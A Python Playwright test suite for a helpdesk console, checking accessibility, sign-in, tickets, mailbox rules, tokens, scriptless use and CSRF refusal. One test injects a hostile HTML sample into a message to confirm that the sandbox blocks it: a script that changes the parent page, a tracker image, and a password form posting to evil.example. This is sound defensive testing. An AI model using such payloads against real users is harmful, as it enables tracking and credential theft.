"""Every page as a browser sees it: accessible, quiet, from here only; and the main actions, also without scripts."""

from __future__ import annotations

import re

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from shared.http import ProblemError
from tests.kit.browsing import ADMINISTRATOR, Console, Watched, accessible, new_context
from tests.kit.stand_in_world import World

pytestmark = [pytest.mark.browser, pytest.mark.connected, pytest.mark.timeout(180)]

PATHS = [
    "/tickets",
    "/tickets?status=open&status=waiting&tag=invoice&view=v2",
    "/tickets?priority=high&status=in_progress&view=v1",
    "/tickets?q=nothing+of+the+sort",
    "/tickets/new",
    "/tickets/128",
    "/tickets/126",
    "/tickets/122",
    "/tickets/121",
    "/tickets/120",
    "/tickets/119",
    "/tickets/128/history",
    "/tickets/128/merge",
    "/tickets/128/merge?q=chairs",
    "/tickets/128/merge?into=127",
    "/tickets/128/contact?q=anna",
    "/tickets/128/messages/m1/split",
    "/tickets/128/messages/m1/source",
    "/ticket-settings",
    "/tickets/spam?id=125&id=127",
    "/mailboxes",
    "/mailboxes/billing",
    "/mailboxes/expired",
    "/mailboxes/renamed",
    "/mailboxes/ending",
    "/mailboxes/lapsed",
    "/mailboxes/fresh",
    "/mailboxes/busy",
    "/mailboxes/plain",
    "/mailboxes/old",
    "/mailboxes/support?job=fetcher-1",
    "/mailboxes/new",
    "/mailboxes/old/edit",
    "/mailboxes/lapsed/edit",
    "/mailboxes/old/delete",
    "/mailboxes/support/folders",
    "/mailboxes/billing/folders",
    "/mailboxes/renamed/folders",
    "/mailboxes/old/rules",
    "/mailboxes/support/rules",
    "/mailboxes/support/rules/new",
    "/mailboxes/support/rules/r2",
    "/mailboxes/support/rules/r3",
    "/mailboxes/support/rules/r2/delete",
    "/mailboxes/support/rules/versions",
    "/mailboxes/support/rules/versions/6",
    "/mailboxes/support/rules/versions/6/restore",
    "/mailboxes/support/rules/versions/compare?version=7&against=6",
    "/mailboxes/support/rules/import",
    "/mailboxes/support/rules/examples",
    "/mailboxes/support/rules/examples/new",
    "/mailboxes/support/rules/examples/new?mail_id=mail-2",
    "/mails",
    "/mails?scanner_id=old",
    "/mails/mail-2",
    "/mails/mail-3",
    "/mails/mail-4",
    "/spam",
    "/contacts",
    "/contacts/c1",
    "/contacts/new",
    "/senders",
    "/senders/smtp-1",
    "/senders/smtp-3",
    "/senders/smtp-4",
    "/senders/new",
    "/me",
    "/mail-templates",
    "/mail-templates?kind=answer",
    "/mail-templates/t1",
    "/mail-templates/t3",
    "/mail-templates/t3/delete",
    "/mail-templates/new?kind=answer",
    "/outgoing",
    "/outgoing/m2",
    "/outgoing/m5",
    "/webhooks",
    "/webhooks/w1",
    "/webhooks/w2",
    "/webhooks/w3",
    "/webhooks/new",
    "/webhooks/w1/edit",
    "/webhooks/w1/delete",
    "/status",
    "/tokens",
    "/nothing-here",
]
EMPTY = [
    "/tickets",
    "/mailboxes",
    "/mails",
    "/spam",
    "/contacts",
    "/senders",
    "/mail-templates",
    "/outgoing",
    "/webhooks",
    "/mailboxes/support/rules",
    "/mailboxes/support/rules/examples",
]


@pytest.mark.parametrize("path", PATHS)
def test_a_page_is_accessible_and_quiet(watched: Watched, path: str) -> None:
    watched.go(path)
    accessible(watched.page)
    watched.page.emulate_media(color_scheme="dark")
    watched.page.set_viewport_size({"width": 390, "height": 844})
    accessible(watched.page)


@pytest.mark.parametrize("path", EMPTY)
def test_an_empty_page_says_what_to_do_next(watched: Watched, world: World, path: str) -> None:
    kept = dict(world.scanners)
    world.empty()
    if "rules" in path:
        world.scanners.update(kept)
    watched.go(path)
    expect(watched.page.locator(".empty p").first).to_be_visible()
    accessible(watched.page)


def test_signing_in_and_out(console: Console, world: World, signed_in_state: dict[str, object], browser: Browser) -> None:
    context = new_context(browser, None)
    page = context.new_page()
    page.goto(f"{console.url}/tickets/128")
    expect(page).to_have_url(f"{console.url}/sign-in?next=%2Ftickets%2F128")
    accessible(page)
    page.get_by_label("E-mail address").fill(ADMINISTRATOR[1])
    page.get_by_label("Password").fill("not this one")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_contain_text("wrong")
    page.get_by_label("Password").fill(ADMINISTRATOR[2])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(f"{console.url}/tickets/128")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    context.close()


def test_the_list_shows_the_flame_and_finds(watched: Watched) -> None:
    watched.go("/tickets")
    page = watched.page
    expect(page.get_by_role("row", name="Invoice wrong").get_by_role("img", name="From a mail")).to_be_visible()
    expect(page.get_by_role("row", name="Call Mr. Rossi").get_by_role("img", name="From a mail")).to_have_count(0)
    page.get_by_label("Search").fill("chairs")
    page.get_by_role("button", name="Search").click()
    expect(page.get_by_role("link", name="Chairs instead of tables")).to_be_visible()
    expect(page.get_by_role("link", name="Call Mr. Rossi back")).to_have_count(0)


def test_what_changed_between_the_page_and_its_stream_is_shown(watched: Watched, world: World) -> None:
    def late(route: Route) -> None:
        world.tickets[128] = world.tickets[128].model_copy(update={"title": "Changed meanwhile"})
        route.continue_()

    watched.page.route("**/live", late)
    watched.go("/tickets")
    expect(watched.page.get_by_role("link", name="Changed meanwhile")).to_be_visible()


def test_a_ticket_shows_its_conversation(watched: Watched) -> None:
    watched.go("/tickets/128")
    page = watched.page
    expect(page.get_by_text("Ticket Id: 128", exact=True)).to_be_visible()
    expect(page.get_by_label("Tags")).to_have_value("invoice, vip")
    expect(page.get_by_text("We have sent your order.")).to_be_hidden()
    page.get_by_text("Quoted text").click()
    expect(page.get_by_text("We have sent your order.")).to_be_visible()
    expect(page.get_by_label("Delivery").get_by_text("550 5.1.1 No such mailbox here")).to_be_visible()
    formatted = page.frame_locator("iframe")
    expect(formatted.get_by_text("invoice", exact=True)).to_be_visible()
    page.get_by_role("link", name="Why the mail from Anna Keller is here").first.click()
    expect(page.get_by_role("heading", name="Why")).to_be_visible()


def test_a_mails_html_can_do_nothing(watched: Watched, world: World) -> None:
    """Even if the sanitiser let everything through: no script runs, nothing is loaded, no form leaves."""
    evil = (
        "<script>parent.document.title = 'taken'; document.title = 'taken'</script><img src='https://tracker.example/x.png'>"
        "<form action='https://evil.example/'><input name='password'></form><p onclick='x'>Hello</p>"
    )
    first = world.messages[128][3]
    world.messages[128][3] = first.model_copy(update={"html": evil})
    watched.go("/tickets/128")
    expect(watched.page.frame_locator("iframe").get_by_text("Hello")).to_be_visible()
    assert "taken" not in watched.page.title()
    refused = [told for told in watched.complaints if "script" in told or "tracker.example" in told]
    assert refused, "the browser said nothing of what it refused"
    assert not [told for told in watched.complaints if told.startswith("foreign request") and "tracker" not in told]
    watched.complaints.clear()


def test_comments_and_notes(watched: Watched) -> None:
    watched.go("/tickets/127")
    page = watched.page
    page.get_by_label("Your answer").fill("<b>We look into it.</b>")
    page.get_by_role("button", name="Send answer").click()
    expect(page.get_by_role("status").filter(has_text="on its way")).to_be_visible()
    expect(page.get_by_text("<b>We look into it.</b>")).to_be_visible()
    page.get_by_role("radio", name="Internal note").check()
    page.get_by_role("textbox", name="Internal note").fill("Only for us.")
    page.get_by_role("button", name="Save internal note").click()
    expect(page.get_by_role("article", name="Internal note from otto@company.example")).to_contain_text("Only for us.")


def test_marking_several_as_spam_asks_first(watched: Watched, world: World) -> None:
    watched.go("/tickets")
    page = watched.page
    page.get_by_label("Ticket 125").check()
    page.get_by_label("Ticket 127").check()
    page.get_by_role("button", name="Mark as spam").click()
    expect(page.get_by_role("heading", name="Mark as spam?")).to_be_visible()
    assert not world.tickets[125].deleted
    page.get_by_role("button", name="Mark as spam").click()
    expect(page.get_by_text("2 tickets are marked as spam")).to_be_visible()
    expect(page.get_by_role("link", name="Chairs instead of tables")).to_have_count(0)


def test_a_rule_is_made_moved_and_told_in_words(watched: Watched) -> None:
    watched.go("/mailboxes/support/rules/new")
    page = watched.page
    expect(page.get_by_text("This rule has no condition and matches every mail.")).to_be_visible()
    page.get_by_label("Name").fill("Invoices")
    page.get_by_label("Value").fill("invoice")
    expect(page.get_by_text("This rule has no condition and matches every mail.")).to_be_hidden()
    page.get_by_role("button", name="Add condition").click()
    second = page.get_by_role("group", name="Condition 2")
    second.get_by_label("Field").select_option("from")
    second.get_by_label("Value").fill("@customer.example")
    page.get_by_label("Leave the mail alone").check()
    page.get_by_role("button", name="Save").click()
    rules = page.locator("li.rule")
    expect(rules.last).to_contain_text("If Subject contains “invoice” and From contains “@customer.example”: leave it alone.")
    page.get_by_role("button", name="Move “Invoices” up").click()
    expect(rules.nth(3)).to_contain_text("Invoices")
    expect(rules.first).to_contain_text("Built in")


def test_what_a_service_refuses_is_shown_at_its_field(watched: Watched, world: World) -> None:
    errors = [{"field": "conditions.0.value", "message": "missing closing )"}]
    world.refuse = ProblemError(422, "The request is not valid", "conditions.0.value: missing closing )", errors=errors)
    watched.go("/mailboxes/support/rules/r2")
    page = watched.page
    page.get_by_label("Value").fill("(")
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_label("Value")).to_have_accessible_description("missing closing )")
    expect(page.get_by_label("Value")).to_have_value("(")
    accessible(page)


def test_a_mailbox_is_made_with_its_smtp_identity_and_tested(watched: Watched, world: World) -> None:
    watched.go("/mailboxes/new")
    page = watched.page
    expect(page.get_by_label("SMTP server")).to_be_hidden()
    page.get_by_label("Name", exact=True).fill("Sales")
    page.get_by_label("IMAP server").fill("imap.company.example")
    page.get_by_role("group", name="Server").get_by_label("User name").fill("sales@company.example")
    page.get_by_role("group", name="Server").get_by_label("Password").fill("secret")
    page.get_by_label("SMTP identity").select_option("new")
    page.get_by_label("SMTP server").fill("smtp.company.example")
    page.get_by_role("button", name="Save and test").click()
    expect(page.get_by_role("heading", name="Sales")).to_be_visible()
    expect(page.get_by_role("status").first).to_contain_text("Saved. Signed in as")
    made = next(item for item in world.scanners.values() if item.name == "Sales")
    assert made.sender_id is not None
    assert world.senders[made.sender_id].server == "smtp.company.example"
    page.get_by_role("link", name="Select folders").click()
    page.get_by_label("Übersicht").check()
    page.get_by_role("button", name="Save").click()
    assert world.folders == ["INBOX", "Public/Übersicht"]
    page.get_by_role("button", name="Scan now").click()
    expect(page.get_by_text("The scan is finished: 12 mails found, 12 read.")).to_be_visible()


def test_a_failed_test_says_which_step(watched: Watched) -> None:
    watched.go("/mailboxes/billing")
    watched.page.get_by_role("button", name="Test the connection").click()
    expect(watched.page.get_by_role("heading", name="The connection failed")).to_be_visible()
    expect(watched.page.get_by_text("TLS 1.3")).to_be_visible()
    accessible(watched.page)


def test_a_token_is_shown_once(watched: Watched) -> None:
    watched.go("/tokens")
    page = watched.page
    page.get_by_label("New token", exact=True).fill("nightly script")
    page.get_by_role("button", name="Create").click()
    assert page.get_by_label("The new token").input_value().startswith("mc_")
    accessible(page)
    watched.go("/tokens")
    expect(page.get_by_label("The new token")).to_have_count(0)
    page.get_by_role("button", name="Revoke nightly script").click()
    expect(page.get_by_text("The token is revoked")).to_be_visible()


def test_everything_main_works_without_scripts(console: Console, world: World, scriptless: Page) -> None:
    page = scriptless
    page.goto(f"{console.url}/tickets/128")
    page.get_by_label("Your answer").fill("Plainly.")
    page.get_by_role("button", name="Send answer").click()
    assert world.messages[128][-1].text == "Plainly."
    page.goto(f"{console.url}/mailboxes/support/rules/new")
    page.get_by_label("Name").fill("By hand")
    page.get_by_label("Value").nth(1).fill("offer")
    page.get_by_role("button", name="Add condition").click()
    assert page.get_by_label("Value").first.input_value() == "offer"
    page.get_by_role("button", name="Save").click()
    assert [item.value for item in next(rule for rule in world.rules.values() if rule.name == "By hand").conditions] == ["offer"]


def test_while_a_service_is_away_nothing_typed_is_lost(watched: Watched, world: World) -> None:
    world.refuse = ProblemError(503, "Try again shortly", "The service's database or broker is away for the moment.")
    watched.go("/tickets/127")
    watched.page.get_by_label("Your answer").fill("Kept?")
    watched.page.get_by_role("button", name="Send answer").click()
    comment = watched.page.get_by_label("Your answer")
    expect(comment).to_have_accessible_description(re.compile("database or broker is away"))
    expect(comment).to_have_value("Kept?")
    world.refuse = ProblemError(503, "Try again shortly", "The service's database or broker is away for the moment.")
    watched.page.get_by_label("Status").select_option("closed")
    watched.page.get_by_role("button", name="Save", exact=True).click()
    expect(watched.page.get_by_role("heading", name="Try again shortly")).to_be_visible()
    accessible(watched.page)


def test_a_form_without_its_token_changes_nothing(watched: Watched, world: World) -> None:
    watched.go("/tickets/127")
    answer = watched.page.request.post(f"{watched.home}/tickets/127/comments", form={"body": "from elsewhere"})
    assert answer.status == 403
    assert all(message.text != "from elsewhere" for message in world.messages[127])
